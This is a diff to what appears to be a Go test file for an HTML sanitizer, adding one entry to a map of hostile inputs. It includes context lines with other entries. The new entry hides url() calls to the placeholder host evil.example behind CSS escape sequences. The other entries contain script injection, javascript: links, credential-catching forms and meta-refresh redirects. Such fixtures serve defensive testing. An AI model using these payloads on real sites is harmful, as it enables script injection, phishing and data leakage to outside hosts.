@@ -36,6 +36,7 @@ var hostile = map[string]string{
 	"refresh":     `<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel=stylesheet href=//evil.example/a.css>`,
 	"forms":       `<form action="https://evil.example/" id=f><input name=password type=password autofocus onfocus=run()><button formaction=x>go</button></form>`,
 	"styles":      `<style>@import "//evil.example/a.css";p{background:url(//evil.example/b)}</style><p style="background:url('https://evil.example/c')">hens</p>`,
+	"escapes":     `<style>p{background:\75\72\6c("//evil.example/h")}b{background:\u\r\l(//evil.example/i)}</style><p style="p\osition:fi\78 ed">hens</p>`,
 	"end of one":  `<style>p{} </sty@importle><script>run()</script></style>`,
 	"pictures":    `<img src="https://evil.example/a.png" srcset="https://evil.example/b.png 2x"><picture><source srcset=//evil.example/c></picture><video poster=//evil.example/d src=//evil.example/e></video>`,
 	"drawings":    `<svg><script>run()</script><use href="https://evil.example/#a"/><image href="https://evil.example/f"/><foreignObject><iframe src=x></iframe></foreignObject><a xlink:href="javascript:run()"><text>hens</text></a><animate onbegin=run()></svg>`,
